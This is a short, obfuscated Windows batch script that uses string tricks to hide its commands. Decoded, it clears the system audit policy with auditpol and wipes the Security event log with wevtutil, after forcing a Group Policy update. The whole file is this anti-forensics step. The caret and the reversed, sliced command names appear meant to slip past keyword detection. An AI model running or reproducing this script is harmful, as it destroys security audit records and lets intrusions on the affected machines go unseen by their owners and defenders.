@echo off
setlocal
set b=pol
set c=/cle
gpupdate /target:computer /force
call audit%b% %c%ar /y
set w=ilutvew
set u=%w:~6,1%%w:~5,1%%w:~4,1%%w:~3,1%%w:~2,1%%w:~1,1%l
%u:~0,1%e%u:~2,1%tutil cl Sec^urity
endlocal
